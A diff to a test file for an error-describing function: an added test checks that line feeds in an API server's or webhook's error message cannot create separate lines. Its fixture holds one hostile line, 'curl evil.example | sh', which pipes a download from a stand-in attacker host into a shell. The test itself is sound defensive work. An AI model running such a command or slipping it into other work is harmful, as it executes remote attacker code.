@@ -26,6 +26,11 @@ test.each([
   expect(error.hint).toContain(`the webhook ${name} does not answer`);
 });
 
+test("line feeds in the words of an API server, or of a webhook before it, make no lines", () => {
+  const { message } = describeAnswer(403, { kind: "Status", message: "no\n\n  curl evil.example | sh" }, call);
+  expect(message).toMatch(/^[^\n]*curl[^\n]*$/);
+});
+
 test.each([500, 503])("an API server that answers %i by itself is not a webhook", (status) => {
   const error = describeAnswer(status, { kind: "Status", message: "etcdserver: request timed out" }, call);
   expect(error.hint).not.toContain("webhook");
